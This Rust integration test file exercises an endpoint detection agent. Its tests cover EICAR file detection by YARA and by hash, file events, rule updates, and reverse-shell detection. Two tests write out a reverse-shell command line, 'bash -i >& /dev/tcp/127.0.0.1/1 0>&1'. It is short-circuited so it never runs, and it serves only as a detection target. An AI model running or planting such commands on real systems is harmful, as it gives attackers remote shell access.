//! From a file or a program to a finding at the server.

use std::collections::BTreeSet;
use std::fs;
use std::process::Command;
use std::time::{Duration, Instant};

use sg_types::DetectionEngine;
use sg_types::agent::{Event, Finding, RecordBody, Subject};

use crate::agent::{BINARY, Home, KillOnDrop};
use crate::server::{State, TestServer};

/// The harmless test file that every scanner knows, in parts so that no scanner finds it here.
pub(crate) fn eicar() -> String {
    [
        "X5O!P%@AP[4\\PZX54(P^)7CC)7}$",
        "EICAR-STANDARD-ANTIVIRUS",
        "-TEST-FILE!$H+H*",
    ]
    .concat()
}

pub(crate) fn server_with_rules() -> TestServer {
    let server = TestServer::start();
    server.set_rules(1, sg_detect::default_pack());
    server
}

fn wait_for_rules(home: &Home) {
    home.wait_for_status("rules are in force", 20, |status| {
        status["agent"]["rules_version"] == 1
    });
}

/// Findings about files. Programs of the whole machine are seen too, those of other tests among them.
pub(crate) fn file_findings(state: &State) -> Vec<Finding> {
    state
        .findings()
        .into_iter()
        .filter(|finding| matches!(finding.subject, Subject::File(_)))
        .collect()
}

fn findings_about(state: &State, path: &str) -> Vec<Finding> {
    let about = |finding: &Finding| matches!(&finding.subject, Subject::File(file) if file.path == path);
    state.findings().into_iter().filter(about).collect()
}

#[test]
fn metrics_arrive_within_five_seconds_and_rules_come_into_force() {
    let server = server_with_rules();
    let home = Home::enrolled(&server);
    let begin = Instant::now();
    let _agent = home.run(&[]);
    server.wait_for("a sample of metrics", 5, |state| {
        (state.metrics() > 0).then_some(())
    });
    assert!(begin.elapsed() < Duration::from_secs(5));
    wait_for_rules(&home);
    server.wait_for("the rules' version at the server", 5, |state| {
        state
            .check_ins
            .last()
            .filter(|(_, check_in)| check_in.agent.rules_version == 1)
            .map(drop)
    });
}

#[test]
fn a_known_bad_file_is_told_by_yara_and_by_its_hash_and_only_once() {
    let server = server_with_rules();
    let home = Home::enrolled(&server);
    let agent = home.run(&[]);
    wait_for_rules(&home);
    let path = home.watched().canonicalize().unwrap().join("invoice.txt");
    let begin = Instant::now();
    fs::write(&path, eicar()).unwrap();
    let name = path.to_str().unwrap().to_owned();
    let engines = server.wait_for("findings of two engines", 10, |state| {
        let engines: BTreeSet<_> = findings_about(state, &name)
            .iter()
            .map(|finding| finding.engine)
            .collect();
        (engines.len() == 2).then_some(engines)
    });
    assert!(begin.elapsed() < Duration::from_secs(3), "{:?}", begin.elapsed());
    assert_eq!(
        engines,
        BTreeSet::from([DetectionEngine::Yara, DetectionEngine::Indicator])
    );
    let finding = findings_about(&server.state(), &name).remove(0);
    let Subject::File(file) = finding.subject else {
        panic!("a file")
    };
    assert_eq!(
        file.sha256.as_deref(),
        Some("275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f")
    );
    assert_eq!(file.size, 68);
    assert!(file.user.is_some() && !finding.explanation.is_empty());

    let count = findings_about(&server.state(), &name).len();
    assert!(agent.terminate().success());
    let agent = home.run(&[]);
    server.wait_for("the agent is back", 10, |state| {
        (state.metrics() > 1).then_some(())
    });
    fs::write(home.watched().join("marker"), "x").unwrap();
    server.wait_for("the marker's event", 10, |state| {
        written(state, "marker").then_some(())
    });
    assert_eq!(
        findings_about(&server.state(), &name).len(),
        count,
        "a restart reports nothing again"
    );
    agent.kill();
}

#[test]
fn a_file_that_arrived_while_the_agent_was_down_is_found() {
    let server = server_with_rules();
    let home = Home::enrolled(&server);
    fs::create_dir_all(home.watched().join("deep/er")).unwrap();
    let path = home.watched().canonicalize().unwrap().join("deep/er/x.bin");
    fs::write(&path, eicar()).unwrap();
    let _agent = home.run(&[]);
    let name = path.to_str().unwrap().to_owned();
    server.wait_for("findings", 20, |state| {
        (findings_about(state, &name).len() >= 2).then_some(())
    });
}

#[test]
fn files_in_new_folders_moved_files_and_deletions_are_told() {
    let server = server_with_rules();
    let home = Home::enrolled(&server);
    let _agent = home.run(&[]);
    wait_for_rules(&home);
    let root = home.watched().canonicalize().unwrap();
    fs::create_dir_all(root.join("new/folder")).unwrap();
    fs::write(root.join("new/folder/one"), "1").unwrap();
    server.wait_for("the file in the new folder", 10, |state| {
        written(state, "new/folder/one").then_some(())
    });
    fs::rename(root.join("new/folder/one"), root.join("two")).unwrap();
    server.wait_for("the moved file", 10, |state| {
        events(state)
            .any(|event| matches!(event, Event::FileRenamed(file) if file.path.ends_with("/two")))
            .then_some(())
    });
    fs::remove_file(root.join("two")).unwrap();
    server.wait_for("the deletion", 10, |state| {
        let deleted = |event: &Event| matches!(event, Event::FileDeleted(file) if file.path.ends_with("/two") && file.sha256.is_some());
        events(state).any(deleted).then_some(())
    });
}

#[test]
fn a_reverse_shell_command_line_is_told_with_its_family() {
    let server = server_with_rules();
    let home = Home::enrolled(&server);
    let _agent = home.run(&[]);
    wait_for_rules(&home);
    // The first command succeeds, so the shell never gets to the second.
    let status = Command::new("bash")
        .args(["-c", "sleep 0.5; true || bash -i >& /dev/tcp/127.0.0.1/1 0>&1"])
        .status()
        .unwrap();
    assert!(status.success());
    // Other tests start programs too; this one is told from them by its command line.
    let is_ours = |finding: &Finding| matches!(&finding.subject, Subject::Process(process) if process.command_line.starts_with("bash -c sleep 0.5;"));
    let finding = server.wait_for("a finding", 10, |state| {
        let mut findings = state.findings().into_iter();
        findings.find(|finding| finding.threat_type == "reverse_shell" && is_ours(finding))
    });
    let Subject::Process(process) = finding.subject else {
        panic!("a process")
    };
    assert!(
        process.command_line.contains("/dev/tcp/127.0.0.1/1"),
        "{process:?}"
    );
    assert!(process.image.unwrap().ends_with("/bash") && process.sha256.is_some_and(|hash| hash.len() == 64));
    assert!(process.parent_image.is_some() && !process.ancestors.is_empty() && process.user.is_some());
    let key = process.key;
    server.wait_for("the event beside the finding", 10, |state| {
        events(state)
            .any(|event| matches!(event, Event::ProcessStarted(process) if process.key == key))
            .then_some(())
    });
}

#[test]
fn the_agents_own_files_never_trigger_it() {
    let server = server_with_rules();
    let home = Home::enrolled(&server);
    // The state folder lies inside a watched one; its rule file holds the patterns of every rule.
    let parent = home.state().parent().unwrap().to_str().unwrap().to_owned();
    let _agent = home.run(&["--watch", &parent]);
    wait_for_rules(&home);
    fs::write(home.watched().join("marker"), "x").unwrap();
    server.wait_for("the marker's event", 10, |state| {
        written(state, "marker").then_some(())
    });
    let state = server.state();
    let own = home.state().canonicalize().unwrap();
    let mentions = state.records().filter(|record| {
        serde_json::to_string(record)
            .unwrap()
            .contains(own.to_str().unwrap())
    });
    // The agent's own start names the state folder on its command line; nothing else may.
    let files: Vec<_> = mentions.filter(|record| !matches!(&record.body, RecordBody::Event(event) if matches!(**event, Event::ProcessStarted(_)))).collect();
    assert!(files.is_empty(), "{files:?}");
}

#[test]
fn without_the_process_connector_proc_is_polled_and_the_gap_is_told() {
    let server = server_with_rules();
    let home = Home::enrolled(&server);
    // In a process namespace of its own the connector tells process ids of another one, so it must not be used.
    let script = r#""$0" run --state-dir "$1" & sleep 1
        until grep -q proc_polling "$1/status.json" && grep -q '"rules_version": 1' "$1/status.json"; do sleep 0.1; done
        bash -c "sleep 1; true || bash -i >& /dev/tcp/127.0.0.1/1 0>&1"; wait"#;
    let namespace = Command::new("unshare")
        .args([
            "--map-root-user",
            "--pid",
            "--fork",
            "--kill-child",
            "--mount-proc",
            "sh",
            "-c",
            script,
            BINARY,
        ])
        .arg(home.state())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let _namespace = KillOnDrop(namespace);
    home.wait_for_status("polling is told", 10, |status| {
        let source = &status["agent"]["sources"]["process"];
        source["source"] == "proc_polling" && source["gap"].as_str().is_some_and(|gap| gap.contains("0.1 s"))
    });
    server.wait_for("a finding", 20, |state| {
        state
            .findings()
            .into_iter()
            .find(|finding| finding.threat_type == "reverse_shell")
            .map(drop)
    });
}

#[test]
fn a_missing_folder_is_told_and_watched_once_it_is_there() {
    let server = server_with_rules();
    let home = Home::enrolled(&server);
    let late = home.watched().with_file_name("late");
    let _agent = home.run(&["--watch", late.to_str().unwrap()]);
    wait_for_rules(&home);
    let gap = |status: &serde_json::Value| {
        status["agent"]["sources"]["file"]["gap"]
            .as_str()
            .unwrap_or_default()
            .to_owned()
    };
    home.wait_for_status("the missing folder is told", 10, |status| {
        gap(status).contains("late is missing")
    });
    fs::create_dir(&late).unwrap();
    fs::write(late.join("x.txt"), eicar()).unwrap();
    home.wait_for_status("the folder is watched", 20, |status| {
        !gap(status).contains("missing")
    });
    server.wait_for("the file that was there", 10, |state| {
        (file_findings(state).len() >= 2).then_some(())
    });
    server.wait_for("the gap record", 10, |state| {
        (!state.gaps("source_unavailable").is_empty()).then_some(())
    });
}

#[test]
fn new_rules_find_what_was_there_before_and_report_the_rest_no_second_time() {
    let server = TestServer::start();
    server.state().check_in_seconds = 1;
    let home = Home::enrolled(&server);
    let _agent = home.run(&[]);
    home.wait_for_status("the folder is watched", 10, |status| {
        status["agent"]["sources"]["file"]["source"] == "inotify"
    });
    fs::write(home.watched().join("x.txt"), eicar()).unwrap();
    server.wait_for("the file's event", 10, |state| {
        written(state, "x.txt").then_some(())
    });
    assert!(file_findings(&server.state()).is_empty());
    server.set_rules(1, sg_detect::default_pack());
    server.wait_for("the findings", 20, |state| {
        (file_findings(state).len() >= 2).then_some(())
    });
    let count = file_findings(&server.state()).len();
    let more = sg_types::agent::RuleText {
        kind: sg_types::RuleKind::Yara,
        name: "more.yar".to_owned(),
        text: "rule found_by_more { strings: $a = \"STANDARD-ANTIVIRUS\" condition: $a }".to_owned(),
    };
    server.set_rules(2, sg_detect::default_pack().into_iter().chain([more]).collect());
    home.wait_for_status("rules 2", 20, |status| status["agent"]["rules_version"] == 2);
    server.wait_for("the new rule's finding", 20, |state| {
        state
            .findings()
            .iter()
            .any(|finding| finding.rule_id.ends_with("found_by_more"))
            .then_some(())
    });
    assert_eq!(file_findings(&server.state()).len(), count + 1);
}

#[test]
fn large_files_links_and_pipes_in_a_watched_folder_do_no_harm() {
    let server = server_with_rules();
    let home = Home::enrolled(&server);
    let _agent = home.run(&["--max-file-bytes", "1000"]);
    wait_for_rules(&home);
    let root = home.watched().canonicalize().unwrap();
    let outside = root.with_file_name("outside.txt");
    fs::write(&outside, eicar()).unwrap();
    std::os::unix::fs::symlink(&outside, root.join("link.txt")).unwrap();
    assert!(
        Command::new("mkfifo")
            .arg(root.join("pipe"))
            .status()
            .unwrap()
            .success()
    );
    fs::write(
        root.join("large.bin"),
        [eicar().as_bytes(), &[b'x'; 2_000]].concat(),
    )
    .unwrap();
    fs::write(root.join("last"), "x").unwrap();
    server.wait_for("the file behind them", 10, |state| {
        written(state, "/last").then_some(())
    });
    let state = server.state();
    let large = events(&state).find_map(|event| match event {
        Event::FileWritten(file) if file.path.ends_with("large.bin") => Some(file.clone()),
        _ => None,
    });
    let large = large.unwrap();
    assert_eq!((large.size, large.sha256), (2_068, None));
    let found = file_findings(&state);
    assert!(
        found.is_empty(),
        "nothing outside and nothing too large is read: {found:?}"
    );
}

#[test]
fn what_was_there_already_was_not_written_now() {
    let server = TestServer::start();
    let text = "title: Suspicious name\nid: 6f0f2a6e-94cb-4f0e-8f6b-0c6f4a1f7c11\nstatus: test\nlevel: high\n\
        logsource:\n  product: linux\n  category: file_event\ndetection:\n  selection:\n    TargetFilename|endswith: .evil\n  condition: selection\n";
    let kind = sg_types::RuleKind::Sigma;
    server.set_rules(
        1,
        vec![sg_types::agent::RuleText {
            kind,
            name: "evil.yml".into(),
            text: text.into(),
        }],
    );
    let home = Home::enrolled(&server);
    fs::write(home.watched().join("old.evil"), "x").unwrap();
    let agent = home.run(&[]);
    wait_for_rules(&home);
    fs::write(home.watched().join("new.evil"), "x").unwrap();
    let path = |finding: &Finding| match &finding.subject {
        Subject::File(file) => file.path.clone(),
        _ => String::new(),
    };
    let told = server.wait_for("the new file", 10, |state| {
        let told: Vec<_> = state.findings().iter().map(path).collect();
        (!told.is_empty()).then_some(told)
    });
    assert!(told.len() == 1 && told[0].ends_with("/new.evil"), "{told:?}");
    assert!(agent.terminate().success());
    assert_eq!(server.state().findings().len(), 1);
}

fn events(state: &State) -> impl Iterator<Item = &Event> {
    state.records().filter_map(|record| match &record.body {
        RecordBody::Event(event) => Some(event.as_ref()),
        _ => None,
    })
}

fn written(state: &State, name: &str) -> bool {
    events(state).any(|event| matches!(event, Event::FileWritten(file) if file.path.ends_with(name)))
}
